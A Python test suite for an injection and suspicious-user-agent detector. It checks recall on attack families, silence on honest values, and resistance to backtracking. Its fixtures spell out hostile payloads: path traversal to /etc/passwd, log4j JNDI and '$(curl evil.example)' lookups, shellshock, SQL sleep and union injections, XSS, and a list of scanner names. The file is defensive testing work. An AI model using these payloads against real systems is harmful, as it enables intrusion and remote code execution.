"""What one call alone can prove: recall on attacks, silence on honest values, and time that hostile length cannot buy."""

import base64
import json
import re
import sys
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from attacks import per_call as percall
from attacks.agents import suspicious_agent
from attacks.normal_form import normal_form
from attacks.patterns import FAMILIES, SCANNER_PHRASES, SCANNERS
from attacks.per_call import injection
from attacks.pollution import polluted
from tests.attacks.attacks import INNOCENT, attacks, fuzzed, unbroken

Judge = Callable[[str], str | None]
Rewrite = Callable[[str], str]
ATTACKS = attacks()
VALUES = [value for values in ATTACKS.values() for value in values]
FAMILY_NAMES = {family.name for family in FAMILIES} | {"log4j", "crlf", "path-traversal"}


# injection


@pytest.mark.parametrize("family", ATTACKS)
def test_attacks_of_each_family_are_seen(family: str) -> None:
    missed = [value for value in ATTACKS[family] if injection(value) is None]
    assert len(missed) <= len(ATTACKS[family]) // 50


def test_recall_is_that_of_the_specification_and_names_are_the_right_ones() -> None:
    seen = [(family, injection(value)) for family, values in ATTACKS.items() for value in values]
    assert sum(found is not None for _, found in seen) >= 0.98 * len(seen)
    assert sum(found == family for family, found in seen) >= 0.95 * len(seen)
    assert {found for _, found in seen if found} <= FAMILY_NAMES


def test_values_of_fuzzers_are_seen() -> None:
    assert [value for value in fuzzed() if injection(value) is None] == []


_STEPS = (
    "../ ..%2f %2e%2e/ %2e%2e%2f ..%252f %252e%252e/ ..%5c %2e%2e%5c ..%255c ..%c0%af %c0%ae%c0%ae/ ..%25c0%25af %25c0%25ae%25c0%25ae/ ..%c1%9c ..%%32%66 %%32%65%%32%65/ ..%%35%63"
    " .../ ..././ ....\\ ..%u2215 %uff0e%uff0e/ %uff0e%uff0e%u2215 ..%u2216 ..%uEFC8 ..%uF025 ..0x2f 0x2e0x2e/ 0x2e0x2e0x2f ..0x5c 0x2e0x2e0x5c ..%c0%2f %c0%2e%c0%2e/ %c0%2e%c0%2e%c0%2f"
    " ///%2e%2e%2f ..// ..\\\\ ./../ .\\..\\ .//..// ..;/"
)


@pytest.mark.parametrize("step", _STEPS.split())
def test_every_spelling_of_a_step_out_of_a_folder_is_seen(step: str) -> None:
    paths = [f"{start}{step * times}{file}" for start in ("", "/", "a/b/") for times in (2, 5, 8) for file in ("secret.txt", "{FILE}")]
    assert [path for path in paths if injection(path) != "path-traversal"] == []


def test_no_honest_value_is_taken_for_an_attack() -> None:
    assert [value for value in INNOCENT if injection(value)] == []


def test_honest_values_stay_honest_however_they_are_sent() -> None:
    sent = [
        form
        for value in INNOCENT
        for form in (quote(value, safe=""), quote_plus(value), base64.b64encode(value.encode()).decode(), json.dumps({"a": value}))
    ]
    assert [value for value in sent if injection(value)] == []


@pytest.mark.parametrize("encode", [quote, quote_plus, lambda value: quote(quote(value, safe=""), safe="")], ids=["url", "form", "twice"])
def test_url_encoding_hides_nothing(encode: Rewrite) -> None:
    bare = [value for value in VALUES if "%" not in value]
    hidden = [value for value in bare if injection(value) and not injection(encode(value))]
    assert len(hidden) <= len(VALUES) // 100


def test_strings_inside_json_are_judged_each_for_itself() -> None:
    plain = [value for value in VALUES if value.isascii() and value.isprintable() and "%" not in value and not value.startswith(("{", "["))]
    wraps: tuple[Rewrite, ...] = (
        lambda value: json.dumps({"user": {"name": value}}),
        lambda value: json.dumps([1, {"a": ["x", value]}]),
        lambda value: json.dumps({"q": value})[:-1],
        lambda value: json.dumps({"inner": json.dumps({"q": value})}),
    )
    for wrap in wraps:
        missed = [value for value in plain if injection(value) and not injection(wrap(value))]
        assert len(missed) <= len(plain) // 50


def test_base64_is_peeled_once() -> None:
    long = [value for value in VALUES if len(value) > 11 and value.isascii() and value.isprintable() and not value.startswith(("{", "["))]
    missed = [value for value in long if injection(value) and "%" not in value and not injection(base64.b64encode(value.encode()).decode())]
    assert len(missed) <= len(long) // 50


@pytest.mark.parametrize("end", ["\n", "\r\n", " "])
def test_base64_of_a_line_is_peeled_too(end: str) -> None:
    """As `echo … | base64` makes it."""
    assert injection(base64.b64encode((unbroken("<scr¦ipt>al¦ert(1)</scr¦ipt>") + end).encode()).decode()) == "script"


@pytest.mark.parametrize("case", [str.upper, str.title, str.swapcase])
def test_case_hides_no_sql_and_no_script(case: Rewrite) -> None:
    values = [
        value
        for family in ("sql", "script")
        for value in ATTACKS[family]
        if "\\" not in value and "%" not in value and "/x" not in value and "&" not in value
    ]
    values = [
        value
        for value in values
        if injection(value) and injection(value) != "deserialisation" and not value.isalnum() and "atob" not in value and value[-1] != "="
    ]
    assert [value for value in values if not injection(case(value))] == []


@pytest.mark.parametrize("space", ["\t", "\n", "\r\n", "/**/", "/*x*/", "+", "%20", "%09", "%0a", "\xa0", "  ", "\x0b", "%a0"])
def test_white_space_and_comments_hide_no_sql(space: str) -> None:
    values = ("1 UN¦ION SEL¦ECT NULL,version()", "' or 1=1 -- x", "1 AND SL¦EEP(5)", "x' and 1 like 1")
    assert [value for value in map(unbroken, values) if injection(value.replace(" ", space)) is None] == []


def test_a_url_with_ordinary_queries_is_honest() -> None:
    urls = (
        "https://example.com/search?q=o%27reilly+books&page=2",
        "https://example.com/?redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3D1",
        "/a/b;v=1/c?x=%7B%22a%22%3A1%7D",
    )
    assert [url for url in urls if injection(url)] == []


def test_the_quick_gate_drops_nothing_that_the_families_would_find() -> None:
    for value in (*VALUES, *INNOCENT):
        if percall._prose(value) and percall.harmless(value):
            assert percall._inside_text(value) in {None, "deserialisation"}, value  # base64 is looked into either way


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
@settings(max_examples=300, deadline=None)
def test_any_text_has_a_verdict(value: str) -> None:
    assert injection(value) in FAMILY_NAMES | {None}
    assert suspicious_agent(value) is None or isinstance(suspicious_agent(value), str)
    assert polluted(value) is None or isinstance(polluted(value), str)


@given(
    st.lists(
        st.sampled_from(
            [
                "'",
                '"',
                "or",
                "union",
                "select",
                "(",
                ")",
                "<",
                ">",
                "${",
                "}",
                "{{",
                "%27",
                "../",
                "--",
                " ",
                "=",
                "1",
                "`",
                ";",
                "cat",
                "\\",
                "\n",
                "/*",
            ]
        ),
        max_size=40,
    )
)
@settings(max_examples=300, deadline=None)
def test_fragments_of_attacks_have_a_verdict(fragments: list[str]) -> None:
    assert injection("".join(fragments)) in FAMILY_NAMES | {None}


@given(st.text(alphabet=st.characters(categories=["L", "N"]), max_size=40))
@settings(max_examples=300, deadline=None)
def test_words_of_any_script_are_honest(value: str) -> None:
    assert injection(value) is None


@given(st.from_regex(r"[A-Za-z0-9_-]{1,64}", fullmatch=True))
@settings(max_examples=500, deadline=None)
def test_random_identifiers_are_honest(value: str) -> None:
    assert injection(value) is None


@given(st.binary(min_size=8, max_size=96))
@settings(max_examples=500, deadline=None)
def test_random_bytes_in_base64_are_honest(content: bytes) -> None:
    assert injection(base64.b64encode(content).decode()) is None
    assert injection(base64.urlsafe_b64encode(content).decode().rstrip("=")) is None


def test_a_json_web_token_is_honest() -> None:
    parts = (
        json.dumps({"alg": "RS256", "typ": "JWT"}),
        json.dumps({"sub": "o'brien@example.com", "name": 'Ann "or" Bob', "iat": 1}),
        "signature" * 8,
    )
    assert injection(".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in parts)) is None


HOSTILE = [
    unit * (65_536 // len(unit))
    for unit in (
        "a", "'", '"', "`", " ", "%25", "union ", "union select ", "select from ", "(select ", "<a ", "<", "<svg", "<img ", "<style>", "../", "${", "${a:", "(", "' or ", "' or 'a'",
        "a b\",\"", '{"', "Q", "; cat ", "/*", "/*a*/", "&#x41;", "&", "--\n", "--a\n--b\n", "\u2028", "{{", "{%", " on", '"onload =', "\\", "case when ", "/etc/", "+", "#", "a)", "javascript:",
        "x=", "\x01", "eval(", "and sleep(", "cast(", "'||", "cat /", "`id ", "(()", '"$ne":', "<?xml ", "<![cdata[", "'\"<${{;|&`(%", "expression(", "\n1999", "%c0%af", "alert ", "or 1 ", "1,",
    )
]  # fmt: skip


@pytest.mark.parametrize("judge", [injection, suspicious_agent, polluted])
def test_time_grows_no_faster_than_length(judge: Judge) -> None:
    """A pattern that backtracks would not finish: 64 KB of its worst input would take minutes. Whether it is 5 or 15 ms is measured, not tested."""
    for value in HOSTILE:
        judge(value)


def test_only_the_ends_of_a_long_value_are_scanned() -> None:
    attack = unbroken("' UN¦ION SEL¦ECT 1,2--")
    assert injection(attack + "a b " * 20_000) == "sql"
    assert injection("a b " * 20_000 + attack) == "sql"


def test_every_family_can_be_reached() -> None:
    """Its words and marks are those that its pattern needs: what the pattern finds in the attacks is found through the gate too."""
    conditional = {"<style", "<![cdata[", "{{", "${", "<?xml"}  # here the mark is a condition of its own
    for value in VALUES:
        text = normal_form(value)
        words = frozenset(percall._words(text))
        for family in FAMILIES:
            if conditional.isdisjoint(family.marks) and re.search(family.pattern, text, re.DOTALL):
                assert percall._concerns(family, words, text), (family.name, text)


# user agents


@pytest.mark.parametrize(
    ("agent", "name"),
    [
        ("javascript:", "script-uri"),  # Microsoft's recipe to validate Defender for APIs
        ("JavaScript:al¦ert(1)", "script-uri"),
        ("java\tscript:x", "script-uri"),
        ("Mozilla/5.0 javascript:x", "script-uri"),
        ("%6aavascript:", "script-uri"),
        ("vbscript:msgbox", "script-uri"),
        ("data:text/html;base64,PHNjcmlwdD4=", "script-uri"),
        ("() { :;}; /bin/ba¦sh -c 'id'", "shellshock"),
        ("() { _; } >_[$($())] { id; }", "shellshock"),
        ("${jn¦di:ldap://evil.example/a}", "log4j"),
        ("Mozilla/5.0 ${${lower:j}n¦di:${lower:l}dap://evil.example}", "log4j"),
        ("%24%7Bjn¦di%3Aldap%3A%2F%2Fevil.example%7D", "log4j"),
        ("<?php sys¦tem('id'); ?>", "command"),
        ("Mozilla/5.0; `id`", "command"),
        ("$(cu¦rl evil.example)", "command"),
        ("Mozilla/5.0' AND SL¦EEP(5)-- -", "sql"),
        ("<scr¦ipt>al¦ert(1)</scr¦ipt>", "script"),
        ('}__test|O:21:"JDatabaseDriver":3:{s:2:"fc";}', "deserialisation"),
        ("{{7*7}}", "template"),
        ("../../../etc/pas¦swd", "path-traversal"),
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner:sqlmap"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "scanner:nikto"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "scanner:nmap"),
        ("Mozilla/5.0 zgrab/0.x", "scanner:zgrab"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner:nuclei"),
        ("Fuzz Faster U Fool v2.1.0", "scanner:fuzz faster u fool"),
        ("gobuster/3.6", "scanner:gobuster"),
        ("Wfuzz/3.1.0", "scanner:wfuzz"),
        ("acunetix-product/wvs", "scanner:acunetix"),
    ],
)
def test_agents_that_no_client_sends(agent: str, name: str) -> None:
    assert suspicious_agent(unbroken(agent)) == name


@pytest.mark.parametrize(
    "agent",
    [
        "", " ", "-", "Mozilla/5.0", "okhttp/4.12.0", "curl/8.5.0", "Wget/1.21.3", "python-requests/2.31.0", "Go-http-client/2.0", "axios/1.6.2", "node", "kube-probe/1.28",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0 Mobile Safari/537.36 [FBAN/FB4A;]",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "GPTBot/1.2 (+https://openai.com/gptbot)",
        "azsdk-python-storage-blob/12.19.0 Python/3.11.7 (Linux-5.15.0-x86_64-with-glibc2.31)", "aws-sdk-java/2.20.0 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS Java/17.0.8",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro; MSOffice 16)", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
        "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", "CFNetwork/1474 Darwin/23.0.0", "PostmanRuntime/7.36.0", "insomnia/8.4.5", "Apache-HttpClient/5.2.1 (Java/17.0.9)",
        "MyApp/2.0 (com.example.app; build:45; iOS 17.1.2) Alamofire/5.8.1", "Ruby", "libwww-perl/6.67", "Java/1.8.0_202", "PHP/8.2", "Symfony HttpClient/Curl", "GuzzleHttp/7", "O'Reilly Reader/1.0",
        "Vegas-Casino/1.0", "Hydrapak/2 (iOS)", "Nmapper/1.0", "ParosApp-iOS".replace("Paros", "Parosh"),
    ],
)  # fmt: skip
def test_honest_agents(agent: str) -> None:
    assert suspicious_agent(agent) is None


def test_published_agents() -> None:
    """Crawlers as they really call themselves: only those that are scanners by name are suspicious."""
    published = pytest.importorskip("crawleruseragents", reason="crawler-user-agents is not installed")
    agents = {agent for crawler in published.CRAWLER_USER_AGENTS_DATA for agent in crawler["instances"]}
    found = {agent: name for agent in agents if (name := suspicious_agent(agent))}
    assert len(agents) > 1_000
    assert all(name.startswith("scanner:") for name in found.values()), found
    assert len(found) < len(agents) / 80


def test_scanner_names_are_lower_case_and_reachable() -> None:
    for name in (*SCANNERS, *SCANNER_PHRASES):
        assert suspicious_agent(f"Mozilla/5.0 ({name.upper()}/1.0)") is not None, name


# pollution


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("user=ann&user=bob", "user"),
        ("amount=10&to=a&amount=1000", "amount"),
        ("id=1&ID=2", "id"),
        ("id=1&%69d=2", "id"),
        ("q1=a&page=1&q1=b", "q1"),
        ("ref=1&ref=abc%27", "ref"),
        ("x=1/*&x=*/un¦ion+sel¦ect+1,2", "x"),
        ("redirect_uri=https://a.example&redirect_uri=https://evil.example", "redirect_uri"),
        ("accountId=5&accountId=7", "accountid"),
    ],
)
def test_polluted(query: str, name: str) -> None:
    assert polluted(unbroken(query)) == name


@pytest.mark.parametrize(
    "query",
    [
        "", "a", "=", "&&&", "a=1", "a=1&b=2", "user=ann&user=ann", "tag=a&tag=b", "tags=a&tags=b", "ids=1&ids=2&ids=3", "a[]=1&a[]=2", "a[0]=1&a[1]=2", "filter=x&sort=a&filter=y",
        "status=open&status=closed", "sort=a&sort=b", "include=a&page=1&include=b", "item=1&item=2&item=3&item=4", "colour=red&colour=blue", "expand=a,b&expand=c", "fq=a:1&q=x&fq=b:2", "a=&b=&c=",
        "utm_source=a&utm_medium=b", "productType=a&productType=b",
    ],
)  # fmt: skip
def test_lists_are_no_pollution(query: str) -> None:
    assert polluted(query) is None


def test_a_name_that_the_endpoint_is_known_to_repeat_is_no_pollution() -> None:
    assert polluted("id=1&id=2") == "id"
    assert polluted("id=1&id=2", lists={"id"}) is None


def test_the_module_asks_for_nothing_impure() -> None:
    assert not {"socket", "logging", "random", "os"} & set(vars(sys.modules["attacks.per_call"]))
